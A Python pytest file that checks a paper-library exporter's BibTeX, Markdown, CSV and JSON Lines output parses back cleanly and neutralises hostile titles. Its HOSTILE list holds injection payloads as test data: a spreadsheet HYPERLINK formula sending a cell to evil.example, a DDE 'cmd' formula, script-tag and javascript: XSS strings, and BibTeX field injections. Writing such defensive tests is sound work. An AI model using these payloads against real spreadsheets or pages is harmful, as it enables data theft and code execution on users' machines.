"""Export: what is written parses back, whatever a title holds."""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import replace
from datetime import date, datetime
from html import unescape
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from ingest.chunking import cut
from ingest.sources import Source, read_source
from paperchat.export import FORMATS, export
from paperchat.library.library import Library
from paperchat.types import Paper, Record

PLAIN = Paper(
    id="kites",
    title="Kites in Steady Wind",
    text="A kite stays up as long as the wind is steady. It falls when the wind drops.",
    text_kind="abstract",
    authors=("Ada Lovelace", "Müller, Jürgen"),
    author_count=2,
    published=date(2024, 5, 17),
    url="https://example.org/kites",
    code_url="https://github.com/example/kites",
    project_url=None,
    arxiv_id="2405.01234",
    doi="10.1000/xyz_1<2>",
    comment_count=3,
    source="papers.jsonl",
    added_at=datetime(2026, 1, 2, 3, 4, 5),
)
BARE = replace(
    PLAIN, id="bare", title="Bare", authors=(), author_count=None, published=None, url=None,
    code_url=None, arxiv_id=None, doi=None, comment_count=None,
)  # fmt: skip
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "＝1+1",
    r"100\% of $\alpha_{i}^2$ & #1 ~ {unbalanced", r"closing} first { then }} \{ and \\",
    "ends with a backslash \\", "{{nested}} \"quoted\", 'single' @article{evil, title={x}}",
    "}, note={injected}", "<script>alert(1)</script> <b>bold</b> &lt;i&gt; &amp;",
    "*stars* _underscores_ `code` ~~gone~~ **b** __u__ | table | # no heading",
    "[link](javascript:alert(1)) ![image](http://evil.example/x.png) [ref]: http://evil.example",
    "1. No list item", "12) Neither this", "# No heading", "> No quote", "- No item", "+ No item",
    "---", "===", "$x^2$ and $$y$$",
    "Ünïcødé “quotes” – dashes … 日本語 🙂", "comma, \"quote\", line",
    "https://evil.example/auto <https://evil.example>", "tab\tand  spaces", ":::note", "a" * 3000,
]  # fmt: skip


def _hostile(title: str, number: int = 0) -> Paper:
    text = f"{title} and its abstract."
    return replace(PLAIN, id=f"p-{number}", title=title, text=text, arxiv_id=None, doi=None)


PAPERS = [PLAIN, BARE, *(_hostile(title, number) for number, title in enumerate(HOSTILE))]


def test_no_papers_are_no_error() -> None:
    assert export([], "bibtex") == export([], "markdown") == export([], "jsonl") == ""
    assert len(export([], "csv").splitlines()) == 1


def test_the_formats_of_the_contract() -> None:
    assert set(FORMATS) == {"bibtex", "markdown", "csv", "jsonl"}


# --- CSV -----------------------------------------------------------------------------------------


def test_csv_reads_back_and_no_cell_is_a_formula() -> None:
    rows = list(csv.DictReader(io.StringIO(export(PAPERS, "csv"), newline="")))
    assert len(rows) == len(PAPERS)
    for row, paper in zip(rows, PAPERS, strict=True):
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))
        for name, value in (("title", paper.title), ("text", paper.text), ("id", paper.id)):
            assert row[name] in (value, f"'{value}")
    assert rows[0]["authors"] == "Ada Lovelace; Müller, Jürgen"
    assert rows[0]["published"] == "2024-05-17"
    assert (rows[0]["doi"], rows[1]["doi"]) == ("10.1000/xyz_1<2>", "")
    assert (rows[1]["published"], rows[1]["url"], rows[1]["author_count"]) == ("", "", "")
    assert rows[2]["title"].startswith("'=HYPERLINK")


# --- BibTeX --------------------------------------------------------------------------------------

UNESCAPED = {
    r"\textbackslash{}": "\\", r"\textbraceleft{}": "{", r"\textbraceright{}": "}",
    r"\textasciitilde{}": "~", r"\textasciicircum{}": "^", r"\textless{}": "<",
    r"\textgreater{}": ">", r"\textbar{}": "|",
    r"\$": "$", r"\&": "&", r"\%": "%", r"\#": "#", r"\_": "_",
}  # fmt: skip
LATEX = re.compile("|".join(map(re.escape, UNESCAPED)))


def _value(text: str, start: int) -> tuple[str, int]:
    """Return the braced value at ``start``, and where it ends, as BibTeX itself counts braces."""
    assert text[start] == "{"
    depth = 0
    for position in range(start, len(text)):
        depth += {"{": 1, "}": -1}.get(text[position], 0)
        if depth == 0:
            return text[start + 1 : position], position + 1
    raise AssertionError("the braces do not balance")


def _parse_bibtex(text: str) -> dict[str, dict[str, str]]:
    entries: dict[str, dict[str, str]] = {}
    position = 0
    while match := re.compile(r"\s*@(\w+)\{([^,\s]+),").match(text, position):
        assert match[2] not in entries
        fields = entries[match[2]] = {"type": match[1]}
        position = match.end()
        while field := re.compile(r"\s*(\w+) = ").match(text, position):
            fields[field[1]], position = _value(text, field.end())
            position += text[position] == ","
        end = re.compile(r"\s*\}").match(text, position)
        assert end, text[position : position + 80]
        position = end.end()
    assert not text[position:].strip(), text[position:]
    return entries


def _plain(latex: str) -> str:
    """Return what LaTeX would print; anything but what we write fails."""
    rest = LATEX.sub("", latex)
    assert not set(rest) & set("\\{}$&%#_~^"), latex
    return LATEX.sub(lambda match: UNESCAPED[match[0]], latex)


def test_bibtex_reads_back_with_every_title_as_it_was() -> None:
    entries = _parse_bibtex(export(PAPERS, "bibtex"))
    assert list(entries) == [paper.id for paper in PAPERS]
    for paper, fields in zip(PAPERS, entries.values(), strict=True):
        assert fields["type"] == "misc"
        assert fields["title"].startswith("{")
        assert fields["title"].endswith("}")
        assert _plain(fields["title"][1:-1]) == paper.title
        assert _plain(fields["abstract"]) == paper.text
    first = entries["kites"]
    assert first["author"] == "Ada Lovelace and Müller, Jürgen"
    assert (first["year"], first["month"], first["eprint"]) == ("2024", "5", "2405.01234")
    assert first["doi"] == "10.1000/xyz_1%3C2%3E"
    assert set(entries["bare"]) == {"type", "title", "abstract"}


def test_a_bibtex_author_stays_one_name() -> None:
    authors = ("Simon and Schuster", "A, B, C, D", "The {X} Team", "and", "Anders Ond")
    entry = _parse_bibtex(export([replace(PLAIN, authors=authors)], "bibtex"))["kites"]
    depth, names, name = 0, [], ""
    for part in re.split(r"( and |[{}])", entry["author"]):
        depth += {"{": 1, "}": -1}.get(part, 0)
        if part == " and " and depth == 0:
            names.append(name)
            name = ""
        else:
            name += part
    names.append(name)
    assert len(names) == len(authors)
    assert names[0] == "{Simon and Schuster}"


def test_bibtex_keys_are_plain_and_never_twice() -> None:
    papers = [replace(PLAIN, id=name) for name in ("a,b", "a{b", "Ünï", "a=b", "A=B", "arXiv:1/2")]
    keys = list(_parse_bibtex(export(papers, "bibtex")))
    assert len({key.lower() for key in keys}) == len(papers)
    assert all(re.fullmatch(r"[A-Za-z0-9_.:/+-]+", key) for key in keys)


def test_only_the_authors_own_words_are_an_abstract() -> None:
    digest = replace(PLAIN, text_kind="digest")
    fields = _parse_bibtex(export([digest], "bibtex"))["kites"]
    assert "abstract" not in fields
    assert fields["annote"] == PLAIN.text


def test_an_address_with_braces_ends_no_field() -> None:
    odd = replace(PLAIN, url="https://example.org/}{a\\b<c>?q={1}&x=%20")
    fields = _parse_bibtex(export([odd], "bibtex"))["kites"]
    assert fields["url"] == "https://example.org/%7D%7Ba%5Cb%3Cc%3E?q=%7B1%7D&x=%20"


# --- Markdown ------------------------------------------------------------------------------------


@pytest.mark.parametrize("title", HOSTILE)
def test_markdown_shows_the_text_and_nothing_else(title: str) -> None:
    paper = _hostile(title)
    html = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(
        export([paper], "markdown")
    )  # fmt: skip
    tags = re.findall(r"<(/?\w+)", html)
    assert tags == ["h2", "a", "/a", "/h2", "p", "a", "/a", "/p", "p", "/p"]
    assert re.findall(r'href="([^"]*)"', html) == [paper.url, paper.code_url]
    heading = re.search(r"<h2><a [^>]*>(.*)</a></h2>", html)
    assert heading
    assert " ".join(unescape(heading[1]).split()) == " ".join(title.split())
    shown = unescape(html.rsplit("<p>", 1)[1].removesuffix("</p>\n"))
    assert " ".join(shown.split()) == " ".join(paper.text.split())


def test_markdown_says_what_is_known() -> None:
    text = export([PLAIN, BARE, replace(BARE, author_count=1)], "markdown")
    assert "## [Kites in Steady Wind](<https://example.org/kites>)" in text
    assert "2024\\-05" not in text
    assert "2024-05-17 · Ada Lovelace, Müller, Jürgen · code: <https://github.com" in text
    assert "## Bare\n\nabstract\n" in text
    assert "1 author ·" in text


# --- JSON Lines ----------------------------------------------------------------------------------


def test_jsonl_is_one_object_a_line() -> None:
    lines = export(PAPERS, "jsonl").splitlines()
    assert len(lines) == len(PAPERS)
    first = json.loads(lines[0])
    assert first["title"] == PLAIN.title
    assert first["published"] == "2024-05-17"
    assert first["added_at"] == "2026-01-02T03:04:05Z"


def _stored(home: Path, records: list[Record]) -> list[Paper]:
    library = Library(home)
    try:
        library.catalogue.store(records, cut)
        return library.catalogue.papers()
    finally:
        library.close()


def _records(data: str) -> list[Record]:
    items = list(read_source(Source.from_bytes("export.jsonl", data.encode())))
    assert all(isinstance(item, Record) for item in items)
    return [item for item in items if isinstance(item, Record)]


def test_jsonl_ingested_again_gives_the_same_papers(tmp_path: Path) -> None:
    first = _stored(tmp_path / "first", _records(export(PAPERS, "jsonl")))
    assert len(first) == len(PAPERS)
    again = _stored(tmp_path / "second", _records(export(first, "jsonl")))

    def same(papers: list[Paper]) -> list[Paper]:
        return [replace(p, source="", added_at=PLAIN.added_at) for p in papers]

    assert same(again) == same(first)
    kites = first[0]
    assert same([kites]) == same([replace(PLAIN, doi=kites.doi)])


def test_jsonl_of_a_digest_stays_a_digest(tmp_path: Path) -> None:
    digest = replace(PLAIN, text_kind="digest")
    (stored,) = _stored(tmp_path / "library", _records(export([digest], "jsonl")))
    assert stored.text_kind == "digest"


@pytest.mark.parametrize(
    ("day", "month", "shown"),
    [(date(2022, 1, 1), "", "\n2022 · "), (date(2022, 5, 1), "5", "\n2022-05 · ")],
)
def test_of_a_paper_with_a_year_alone_no_month_is_made_up(day, month, shown) -> None:
    paper = replace(PLAIN, published=day)
    bibtex = export([paper], "bibtex")
    assert "year = {2022}" in bibtex
    assert ("month = " in bibtex, f"month = {{{month}}}" in bibtex) == (bool(month), bool(month))
    assert shown in export([paper], "markdown")


def test_the_address_of_a_paper_without_a_page_is_that_of_its_project_or_code() -> None:
    code, project = "https://github.com/example/kites", "https://example.org/project"
    for found, expected in (
        (replace(PLAIN, url=None), code),
        (replace(PLAIN, url=None, project_url=project), project),
        (replace(PLAIN, project_url=project), "https://example.org/kites"),
    ):
        assert f"  url = {{{expected}}}," in export([found], "bibtex")
    assert "url" not in export([BARE], "bibtex")
